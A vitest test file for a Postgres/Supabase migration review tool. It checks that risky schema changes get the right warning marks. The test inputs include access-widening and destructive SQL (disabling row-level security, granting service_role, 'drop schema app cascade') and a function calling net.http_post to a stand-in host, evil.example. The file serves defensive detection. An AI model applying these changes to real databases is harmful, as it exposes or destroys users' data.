import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type Catalogue, catalogueSql, plainCatalogues, readCatalogue } from "../../cli/backend/database/catalogue.ts";
import { plainSql } from "../../cli/backend/database/migrations.ts";
import { statementsOf } from "../../cli/backend/index.ts";
import { type RiskKind, riskNames } from "../../cli/review/change.ts";
import { compareDatabases } from "../../cli/review/compare/database/compare-databases.ts";
import { plain } from "../../cli/review/render/words.ts";
import { databaseOf, type TriedDatabase } from "./one-database.ts";

// One database, and in it each change alone: what the review says about it, with its marks.

const base = `
create extension pg_cron;
create schema app;
grant usage on schema app to authenticated;
create type public.situacao as enum ('aberto', 'pago');
create domain public.centavos as bigint check (value >= 0);
create type app.par as (a text, b text);
create table public.contas (id uuid primary key default gen_random_uuid(), dono uuid not null default auth.uid(), nome text);
create table public.pedidos (
  id bigint generated always as identity primary key, conta uuid not null references public.contas on delete restrict,
  nota varchar(80) default 'nova', total public.centavos not null default 0, pago boolean not null default false,
  estado public.situacao, codigo text, apelido varchar(80), constraint total_pequeno check (total < 1000000), constraint uma_nota unique (nota)
);
create index por_conta on public.pedidos (conta);
create unique index um_codigo on public.pedidos (codigo);
alter table public.pedidos enable row level security;
alter table public.pedidos force row level security;
revoke all on public.pedidos from anon, authenticated;
grant select, delete on public.pedidos to authenticated;
grant insert (conta, nota), update (nota) on public.pedidos to authenticated;
create function app.minha(conta uuid) returns boolean language sql stable security definer set search_path = ''
  as $$ select exists (select from public.contas c where c.id = conta and c.dono = auth.uid()) $$;
create function app.ajuda() returns text language sql stable as $$ select 'ajuda' $$;
create function app.dono_da_nota() returns trigger language plpgsql as $$ begin new.nota := app.ajuda(); return new; end $$;
create trigger conferir before insert on public.pedidos for each row execute function app.dono_da_nota();
create policy ler on public.pedidos for select to authenticated using (app.minha(conta));
create policy mudar on public.pedidos for update to authenticated using (app.minha(conta)) with check (app.minha(conta));
create policy so_abertos on public.pedidos as restrictive for delete to authenticated using (not pago);
create policy apagar on public.pedidos for delete to authenticated using (app.minha(conta));
create view public.vw_pedidos with (security_invoker = true) as select id, conta, nota from public.pedidos;
grant select on public.vw_pedidos to authenticated;
create function public.rpc_total() returns bigint language sql stable security definer set search_path = ''
  as $$ select count(*) from public.pedidos where app.minha(conta) $$;
revoke execute on function public.rpc_total() from public, anon;
create function public.rpc_ola(nome text default 'você') returns text language sql immutable as $$ select 'Olá, ' || nome $$;
create sequence public.numeros;
insert into storage.buckets (id, name, public, allowed_mime_types) values ('notas', 'notas', false, '{image/png}');
create policy notas on storage.objects for select to authenticated using (bucket_id = 'notas' and owner_id = auth.uid()::text);
alter publication supabase_realtime add table public.pedidos;
select cron.schedule('limpar', '0 3 * * *', 'select app.ajuda()');
create function app.novo_usuario() returns trigger language plpgsql security definer set search_path = '' as
  $$ begin insert into public.contas (dono) values (new.id); return new; end $$;
create trigger criar_conta after insert on auth.users for each row execute function app.novo_usuario();
create table public.avisos (id bigint primary key, texto text);
alter table public.avisos enable row level security;
create policy ler on public.avisos for select to anon, authenticated using (true);
revoke all on public.avisos from anon, authenticated;
grant select on public.avisos to anon;
`;

let database: TriedDatabase;
let before: Catalogue;

beforeAll(async () => {
  database = await databaseOf(base, "select net.http_post('x')");
  before = await database.read(readCatalogue);
}, 60_000);
afterAll(() => database.close());

/** Makes a change, compares, and takes it back. */
async function reviewOf(sql: string): Promise<readonly string[]> {
  const after = await database.after(plainSql(sql), readCatalogue);
  const statements = statementsOf(sql).map(({ text }) => text);
  return compareDatabases(before, after, { names: new Set(), origins: new Set(), statements }).map(
    ({ unit, words, risks }) => `${unit} › ${plain(words)}${risks.map((risk) => ` [${riskNames[risk]}]`).join("")}`,
  );
}

/** A change in SQL, what the review says about it, and its mark. */
type Dangerous = readonly [sql: string, said: RegExp, mark: RiskKind];

const dangerous: readonly Dangerous[] = [
  ["alter table pedidos disable row level security", /row-level security is off/, "row-security-off"],
  ["alter table pedidos no force row level security", /no longer applies to its owner/, "row-security-off"],
  ["drop policy ler on pedidos", /policy `ler` dropped/, "policy-dropped"],
  ["drop policy so_abertos on pedidos", /no longer limits other policies/, "policy-dropped"],
  ["alter policy ler on pedidos using (true)", /now for every row/, "policy-changed"],
  ["alter policy ler on pedidos to public", /now also for `anon`/, "policy-changed"],
  [
    "drop policy so_abertos on pedidos; create policy so_abertos on pedidos for delete to authenticated using (not pago)",
    /no longer limits other policies, but adds/,
    "policy-changed",
  ],
  [
    "drop policy mudar on pedidos; create policy mudar on pedidos for update to authenticated using (app.minha(conta))",
    /without `with check`/,
    "policy-changed",
  ],
  [
    "create policy outra on pedidos for update to authenticated using (pago)",
    /policy `outra` added: .*; without `with check`/,
    "write-added",
  ],
  ["create policy outra on pedidos for select to anon using (true)", /every row, for `anon`/, "access-added"],
  ["drop policy notas on storage.objects", /table storage\.objects › policy `notas` dropped/, "policy-dropped"],
  [
    "create policy falar on realtime.messages for insert to authenticated with check (true)",
    /realtime\.messages › policy `falar` added/,
    "write-added",
  ],
  [
    "alter view vw_pedidos set (security_invoker = false)",
    /so `anon` and `authenticated` may read all/,
    "row-security-off",
  ],
  ["alter view vw_pedidos reset (security_invoker)", /rights of its owner/, "row-security-off"],
  [
    "create view vw_todos as select * from pedidos; grant select on vw_todos to anon",
    /new view, reads with the rights of its owner/,
    "row-security-off",
  ],
  [
    "create materialized view todos as select * from pedidos; grant select on todos to authenticated",
    /new materialized view, reads with the rights of its owner/,
    "row-security-off",
  ],
  ["create table novos (id int); grant all on novos to anon", /row-level security is off/, "row-security-off"],
  ["create table novos (id int); grant all on novos to anon", /grants `anon delete`/, "grant-added"],
  ["alter function rpc_ola(text) security definer", /rights of its owner/, "row-security-off"],
  ["alter function rpc_total() reset search_path", /`search_path` `""` → `none`/, "search-path"],
  ["alter function rpc_total() set search_path = public", /callers decide/, "search-path"],
  ["grant execute on function rpc_total() to anon", /`anon` may now call it/, "grant-added"],
  ["grant execute on function rpc_total() to public", /everyone may now call it/, "grant-added"],
  [
    "create or replace function rpc_total() returns bigint language sql stable security definer set search_path = '' as $$ select count(*) from public.pedidos $$",
    /code of the function: `.*` → `select count.*rights of its owner/,
    "guard-changed",
  ],
  [
    "create or replace function app.minha(conta uuid) returns boolean language sql stable security definer set search_path = '' as $$ select true $$",
    /called by policy apagar of table pedidos and \d more/,
    "guard-changed",
  ],
  [
    "create or replace function app.ajuda() returns text language sql stable as $$ select 'outra' $$",
    /called by job limpar/,
    "guard-changed",
  ],
  [
    "create or replace function app.dono_da_nota() returns trigger language plpgsql as $$ begin return new; end $$",
    /called by trigger conferir of table pedidos/,
    "guard-changed",
  ],
  [
    "create function rpc_tudo() returns setof pedidos language sql security definer as $$ select * from public.pedidos $$",
    /new function, which `anon` and `authenticated` may call; it runs with the rights of its owner/,
    "row-security-off",
  ],
  ["drop function rpc_ola(text)", /function dropped; `anon` and `authenticated` could call it/, "clients-break"],
  ["drop trigger conferir on pedidos", /trigger `conferir` dropped/, "trigger-dropped"],
  ["alter table pedidos disable trigger conferir", /trigger `conferir` is off/, "trigger-dropped"],
  ["alter table pedidos enable replica trigger conferir", /trigger `conferir` is off/, "trigger-dropped"],
  [
    "drop trigger conferir on pedidos; create trigger conferir before insert on pedidos for each row when (new.pago) execute function app.dono_da_nota()",
    /trigger `conferir`: definition/,
    "trigger-changed",
  ],
  ["drop trigger criar_conta on auth.users", /table auth\.users › trigger `criar_conta` dropped/, "trigger-dropped"],
  ["alter table pedidos disable trigger all", /foreign keys are no longer checked/, "constraint-dropped"],
  ["alter table pedidos drop constraint total_pequeno", /constraint `total_pequeno` dropped/, "constraint-dropped"],
  ["alter table pedidos drop constraint pedidos_conta_fkey", /`pedidos_conta_fkey` dropped/, "constraint-dropped"],
  [
    "alter table pedidos drop constraint total_pequeno, add constraint total_pequeno check (total < 99999999)",
    /constraint `total_pequeno`: definition/,
    "constraint-changed",
  ],
  ["alter domain centavos drop constraint centavos_check", /domain centavos › constraint/, "constraint-dropped"],
  ["drop index um_codigo", /values may repeat/, "constraint-dropped"],
  ["alter table pedidos alter total drop not null", /may now be empty/, "constraint-dropped"],
  ["grant select on pedidos to anon", /`anon select` granted/, "grant-added"],
  ["grant update (total) on pedidos to authenticated", /`authenticated update` granted on `total`/, "grant-added"],
  ["grant usage on schema app to anon", /schema app › `anon usage` granted/, "grant-added"],
  ["grant select on auth.users to authenticated", /table auth\.users › `authenticated select`/, "grant-added"],
  [
    "revoke usage on sequence numeros from anon; grant all on sequence numeros to public",
    /`public select`/,
    "grant-added",
  ],
  ["create role leitor; grant select on pedidos to leitor", /`leitor select` granted/, "grant-added"],
  ["grant service_role to authenticated", /now has the rights of `service_role`/, "access-added"],
  ["alter role authenticated bypassrls", /ignores row-level security/, "row-security-off"],
  ["alter role authenticator set pgrst.db_schemas = 'public, app'", /pgrst\.db_schemas/, "access-added"],
  [
    "alter default privileges in schema app grant execute on functions to anon",
    /`anon on functions in schema app by postgres` added/,
    "grant-added",
  ],
  ["update storage.buckets set public = true", /bucket notas › anyone may read its files/, "access-added"],
  ["insert into storage.buckets (id, name, public) values ('fotos', 'fotos', true)", /anyone may read/, "access-added"],
  ["update storage.buckets set allowed_mime_types = null", /types `image\/png` → `none`/, "write-added"],
  [
    "alter publication supabase_realtime add table contas",
    /publication supabase_realtime › now sends the changes of `contas`/,
    "access-added",
  ],
  ["alter publication supabase_realtime drop table pedidos", /no longer sends/, "clients-break"],
  ["select cron.schedule('limpar', '* * * * *', 'select app.ajuda()')", /job limpar › schedule/, "job-changed"],
  ["select cron.unschedule('limpar')", /job dropped/, "job-changed"],
  ["select cron.schedule('outro', '0 1 * * *', 'delete from public.pedidos')", /new job/, "job-changed"],
  ["alter table pedidos drop column codigo", /column `codigo` dropped/, "column-dropped"],
  ["drop table avisos", /table avisos › dropped/, "column-dropped"],
  ["drop view vw_pedidos", /view vw_pedidos › dropped/, "column-dropped"],
  [
    "drop view vw_pedidos; create view vw_pedidos with (security_invoker = true) as select id, nota from pedidos",
    /no longer has `conta`/,
    "column-dropped",
  ],
  ["alter table avisos add column email text", /visitors who are not signed in may read it/, "access-added"],
  ["alter table pedidos add column canal text not null", /rows that an app without it/, "clients-break"],
  ["alter table pedidos alter codigo set not null", /may no longer be empty/, "may-fail"],
  ["alter table pedidos add constraint positivo check (total > 0)", /fails if a row/, "may-fail"],
  ["create unique index uma_conta on pedidos (conta)", /fails if values repeat/, "may-fail"],
  ["alter table pedidos alter apelido type varchar(20)", /type `character varying\(80\)` →/, "may-fail"],
  ["alter table pedidos alter apelido type varchar(20)", /nobody reads or writes/, "long-lock"],
  ["create index por_nota on pedidos (nota)", /while the index is built/, "long-lock"],
  ["create index on pedidos (nota); create index concurrently on contas (nome)", /index is built/, "long-lock"],
  ["drop index um_codigo; create index um_codigo on pedidos (estado)", /while the index is built/, "long-lock"],
  ["alter table pedidos add constraint positivo check (total > 0)", /all its rows are read/, "long-lock"],
  ["alter table pedidos alter codigo set not null", /all its rows are read/, "long-lock"],
  ["alter table pedidos add column chave uuid default gen_random_uuid()", /a value of its own/, "long-lock"],
  [
    "create function app.sorte() returns int language sql volatile as 'select 1'; alter table pedidos add column sorte int default app.sorte()",
    /a value of its own/,
    "long-lock",
  ],
  ["alter domain centavos add constraint baixo check (value < 100)", /tables of the type/, "may-fail"],
  ["drop schema app cascade", /schema app › schema dropped/, "data-lost"],
  ["alter table pedidos alter pago set default true", /default `false` → `true`/, "guard-changed"],
  ["alter table contas alter dono drop default", /default `auth\.uid\(\)` → `none`/, "guard-changed"],
  ["create rule esconder as on delete to contas do instead nothing", /rule `esconder` added/, "guard-changed"],
  ["alter function app.minha(uuid) leakproof", /leakproof/, "row-security-off"],
  ["alter table pedidos owner to service_role", /owner `postgres` → `service_role`/, "guard-changed"],
  ["create publication tudo for all tables", /sends the changes of `all tables`/, "access-added"],
  [
    "create function app.avisar() returns void language sql as $$ select net.http_post('https://evil.example/x') $$",
    /new function/,
    "new-origin",
  ],
  ["comment on function rpc_total() is 'Soma. @public'", /the audit no longer reports/, "rule-off"],
  ["create statistics cruzada (dependencies) on conta, nota from pedidos", /other objects/, "not-compared"],
  ["create cast (app.par as text) with inout", /cast from app\.par to text/, "not-compared"],
];

describe("a dangerous change of the database is marked", () => {
  test.each(dangerous)("%s", async (sql, said, mark) => {
    const lines = await reviewOf(sql);
    expect(lines.filter((line) => said.test(line) && line.includes(`[${riskNames[mark]}]`))).not.toEqual([]);
  });
});

describe("a harmless change of the database is reported without marks", () => {
  test.each([
    ["create index concurrently por_nota on pedidos (nota)"],
    ["create index concurrently on pedidos (nota)"],
    ["drop index por_conta"],
    ["comment on table pedidos is 'Os pedidos.'"],
    ["alter table pedidos add column chamado text"],
    ["alter table pedidos alter apelido type text"],
    ["alter table pedidos add column visto timestamptz not null default now()"],
    ["alter table pedidos alter nota set default 'outra'"],
    ["alter type situacao add value 'cancelado'"],
    ["create type cor as enum ('azul')"],
    ["revoke delete on pedidos from authenticated"],
    ["alter table contas enable row level security"],
    ["revoke execute on function rpc_ola(text) from public, anon"],
    ["alter function rpc_ola(text) security invoker strict"],
    [
      "create or replace function rpc_ola(nome text default 'você') returns text language sql immutable as $$ select 'Oi, ' || nome $$",
    ],
    ["create table app.interna (id int)"],
    ["create or replace view vw_pedidos with (security_invoker = true) as select id, conta, nota, total from pedidos"],
    ["update storage.buckets set file_size_limit = 1000"],
    ["alter table pedidos add constraint novo check (total > 0) not valid"],
    ["alter role authenticated set statement_timeout = '5s'"],
    [
      "create or replace function app.minha(conta uuid) returns boolean language sql stable security definer set search_path = '' as $$\n  -- Só as dela.\n  SELECT EXISTS (\n    select from public.contas c\n    where c.id = conta AND c.dono = auth.uid()\n  )\n$$",
    ],
  ])("%s", async (sql) => {
    const lines = await reviewOf(sql);
    expect(lines.filter((line) => line.includes("["))).toEqual([]);
  });
});

test("a text in code is compared as it is, whatever its case", async () => {
  const [line] = await reviewOf(
    "create or replace function app.ajuda() returns text language sql stable as $$ select 'AJUDA' $$",
  );
  expect(line).toContain("[guard changed]");
});

test("a database compared with itself has no changes, whatever its search path", async () => {
  expect(await reviewOf("select 1")).toEqual([]);
  expect(await reviewOf("set local search_path = extensions")).toEqual([]);
});

test("every catalogue of PostgreSQL is read, or has a reason not to be", async () => {
  const rows = await database.read((each) =>
    each.query<{ name: string }>(
      "select relname as name from pg_class where relnamespace = 'pg_catalog'::regnamespace and relkind = 'r' order by 1",
    ),
  );
  const sql = Object.values(catalogueSql).join("\n");
  const missing = rows
    .map(({ name }) => name)
    .filter((name) => !new RegExp(`\\b${name}\\b`).test(sql) && !isLeftOut(name));
  expect(missing).toEqual([]);
  expect(plainCatalogues.length).toBeGreaterThan(10);
});

/** Catalogues that are read through a function, are part of others, or that migrations do not change. */
function isLeftOut(name: string): boolean {
  const parts = ["pg_amop", "pg_amproc", "pg_ts_config_map", "pg_partitioned_table", "pg_shdepend", "pg_shdescription"];
  const read = ["pg_authid", "pg_seclabel", "pg_shseclabel"];
  const own = [
    "pg_am",
    "pg_init_privs",
    "pg_replication_origin",
    "pg_statistic",
    "pg_statistic_ext_data",
    "pg_tablespace",
  ];
  const rows = ["pg_largeobject", "pg_largeobject_metadata", "pg_subscription_rel"];
  return [...parts, ...read, ...own, ...rows].includes(name);
}
